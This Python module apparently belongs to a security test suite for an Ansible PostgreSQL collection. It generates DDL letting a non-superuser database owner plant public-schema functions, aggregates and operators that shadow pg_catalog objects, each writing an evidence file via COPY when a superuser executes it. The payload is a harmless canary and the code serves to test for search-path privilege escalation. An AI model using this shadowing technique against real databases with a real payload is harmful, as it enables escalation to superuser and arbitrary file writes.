"""Plant, as a database's owner (not a superuser), objects that shadow the pg_catalog functions,
aggregates and operators the collection's SQL calls; each leaves a file when a superuser runs it.

The names come from the SQL in plugins/module_utils (and the on-host programs): every word followed
by `(` in a string literal that is a pg_catalog function or aggregate, and every operator symbol in a
string literal that is a pg_catalog operator. A shadow wins over pg_catalog's object wherever a call
needs an implicit cast (or matches a polymorphic or "any" argument) and the shadow's types match
exactly, which is how the attack works: `public.=(oid, integer)` against `oid = 0`,
`public.quote_ident(name)` against `quote_ident(nspname)`, `public.json_agg(name)`.
"""
import glob
import io
import itertools
import os
import re
import tokenize

ROOT = os.path.abspath(os.path.join(os.path.dirname(__file__), '..', '..'))
SOURCES = (glob.glob(os.path.join(ROOT, 'plugins', 'module_utils', '*', '*.py'))
           + glob.glob(os.path.join(ROOT, 'plugins', 'modules', '*.py'))
           + glob.glob(os.path.join(ROOT, 'roles', '*', 'files', '*.py')))

# The types that catalog columns, parameters and literals of our SQL have.
TYPES = ['oid', 'name', 'text', 'int2', 'int4', 'int8', '"char"', 'bool', 'regclass', 'regproc', 'regprocedure',
         'regrole', 'regnamespace', 'regtype', 'xid', 'aclitem', 'json', 'jsonb', 'numeric', 'float8', 'float4',
         'timestamptz', 'interval', 'pg_lsn', 'inet', 'bpchar', 'varchar', 'oid[]', 'name[]', 'text[]',
         'aclitem[]', '"char"[]', 'int2vector', 'oidvector', 'pg_node_tree']
OPERATOR_TYPES = ['oid', 'name', 'text', 'int2', 'int4', 'int8', '"char"', 'bool', 'regclass', 'regrole',
                  'regnamespace', 'aclitem', 'xid', 'oid[]', 'name[]', 'text[]', 'json', 'jsonb', 'numeric',
                  'float8', 'timestamptz', 'interval', 'pg_lsn', 'bpchar', 'varchar']
PSEUDO = ('any', 'anyelement', 'anyarray', 'anynonarray', 'anyenum', 'anyrange', 'anycompatible',
          'anycompatiblearray', 'anycompatiblenonarray', 'anymultirange', 'anycompatiblerange',
          'anycompatiblemultirange', '"any"')
OPERATOR_CHARS = '+-*/<>=~!@#%^&|`?'


def sql_literals():
    """Every string literal of the collection's Python sources."""
    for path in SOURCES:
        with open(path, 'rb') as f:
            data = f.read()
        try:
            for tok in tokenize.tokenize(io.BytesIO(data).readline):
                if tok.type == tokenize.STRING:
                    yield tok.string
        except (tokenize.TokenError, SyntaxError):
            continue


def used_names():
    """(function names, operator symbols) appearing in the sources' string literals."""
    words, ops = set(), set()
    for lit in sql_literals():
        words.update(m.lower() for m in re.findall(r'\b([A-Za-z_][A-Za-z0-9_]*)\s*\(', lit))
        ops.update(re.findall(r'(?<![%s])([%s]+)(?![%s])' % ((re.escape(OPERATOR_CHARS),) * 3), lit))
    return words, ops


def _ident(name):
    return '"%s"' % name.replace('"', '""')


def _tag(*parts):
    return re.sub(r'[^a-z0-9_]+', '_', '_'.join(parts).lower())[:120]


def plant_statements(cur, evidence_dir):
    """The DDL (run as the database owner) planting every shadow; returns (statements, count)."""
    words, ops = used_names()
    cur.execute("""SELECT p.proname, p.prokind, p.provariadic <> 0,
                          ARRAY(SELECT pg_catalog.format_type(a.t, NULL)
                                  FROM pg_catalog.unnest(p.proargtypes::pg_catalog.oid[]) WITH ORDINALITY AS a(t, i)
                                 ORDER BY a.i),
                          pg_catalog.format_type(p.prorettype, NULL), t.typtype = 'p'
                   FROM pg_catalog.pg_proc p JOIN pg_catalog.pg_type t ON t.oid = p.prorettype
                   WHERE p.pronamespace = 'pg_catalog'::pg_catalog.regnamespace AND p.proname = ANY(%s)
                     AND p.prokind IN ('f', 'a')""", (sorted(words),))
    catalog = cur.fetchall()
    cur.execute("""SELECT pg_catalog.format_type(castsource, NULL), pg_catalog.format_type(casttarget, NULL)
                   FROM pg_catalog.pg_cast WHERE castcontext = 'i'""")
    implicit = set(cur.fetchall())
    canon = {}
    for t in set(TYPES):
        cur.execute('SELECT pg_catalog.format_type(%s::pg_catalog.regtype, NULL)', (t,))
        canon[t] = cur.fetchone()[0]

    def candidates(argtype):
        if argtype.strip('"') in [p.strip('"') for p in PSEUDO]:
            return list(TYPES)
        return [s for s in TYPES if canon[s] != argtype and (canon[s], argtype) in implicit]

    ddl = ["""CREATE FUNCTION public.pgw_evidence(tag text) RETURNS void LANGUAGE plpgsql SET search_path = pg_catalog AS $e$
BEGIN
  IF current_setting('is_superuser') = 'on' THEN
    EXECUTE format('COPY (SELECT 1) TO %%L', %s || tag);
  END IF;
END $e$""" % _literal(evidence_dir.rstrip('/') + '/')]
    made = set()
    count = 0
    for name, kind, variadic, args, rettype, pseudo_ret in catalog:
        ret = 'text' if pseudo_ret or rettype in ('internal', 'cstring') else rettype
        shapes = []
        if variadic and args and args[-1].strip('"') == 'any':
            fixed = list(args[:-1])
            for n in range(1, 7):
                for s in ('text', 'name', 'oid', 'int4'):
                    shapes.append(tuple(fixed + [s] * n))
        per_pos = [candidates(a) or [] for a in args]
        for i, cands in enumerate(per_pos):
            for s in cands:
                shape = [a if a.strip('"') not in ('any',) and not a.startswith('any') else 'text' for a in args]
                shape[i] = s
                shapes.append(tuple(shape))
        # two positions at once for the two-argument calls (json_object_agg(text, json), ...)
        if len(args) == 2 and per_pos[0] and per_pos[1]:
            for a, b in itertools.product(per_pos[0][:12], per_pos[1][:12]):
                shapes.append((a, b))
        for shape in shapes:
            if any(t in ('internal', 'cstring') or t.startswith('any') or t == '"any"' for t in shape):
                continue
            key = (name, kind, shape)
            if key in made:
                continue
            made.add(key)
            tag = _tag('fn', name, *shape)
            argl = ', '.join(shape)
            if kind == 'a':
                sfunc = 'pgw_sf_%d' % len(made)
                ddl.append('CREATE FUNCTION public.%s(%s, %s) RETURNS %s LANGUAGE plpgsql AS $s$ BEGIN '
                           'PERFORM public.pgw_evidence(%s); RETURN $1; END $s$'
                           % (sfunc, ret, argl, ret, _literal(tag)))
                ddl.append('CREATE AGGREGATE public.%s(%s) (SFUNC = public.%s, STYPE = %s)' % (_ident(name), argl, sfunc, ret))
            else:
                ddl.append('CREATE FUNCTION public.%s(%s) RETURNS %s LANGUAGE plpgsql AS $s$ BEGIN '
                           'PERFORM public.pgw_evidence(%s); RETURN NULL; END $s$' % (_ident(name), argl, ret, _literal(tag)))
            count += 1
    # operators: every pair of catalog types for which pg_catalog has no operator of exactly that pair
    cur.execute("""SELECT oprname, pg_catalog.format_type(oprleft, NULL), pg_catalog.format_type(oprright, NULL)
                   FROM pg_catalog.pg_operator WHERE oprnamespace = 'pg_catalog'::pg_catalog.regnamespace
                     AND oprname = ANY(%s) AND oprkind = 'b'""", (sorted(ops),))
    exact = set(cur.fetchall())
    used_ops = sorted(set(o for o, _l, _r in exact))
    funcs = set()
    for left, right in itertools.product(OPERATOR_TYPES, OPERATOR_TYPES):
        for op in used_ops:
            if (op, canon[left], canon[right]) in exact:
                continue
            fn = _tag('op', left, right)
            if fn not in funcs:
                funcs.add(fn)
                ddl.append('CREATE FUNCTION public.%s(%s, %s) RETURNS bool LANGUAGE plpgsql AS $s$ BEGIN '
                           'PERFORM public.pgw_evidence(%s); RETURN NULL; END $s$' % (fn, left, right, _literal(fn)))
            ddl.append('CREATE OPERATOR public.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = public.%s)' % (op, left, right, fn))
            count += 1
    return ddl, count, sorted(set(n for n, _k, _v, _a, _r, _p in catalog)), used_ops


def _literal(text):
    return "'%s'" % text.replace("'", "''")
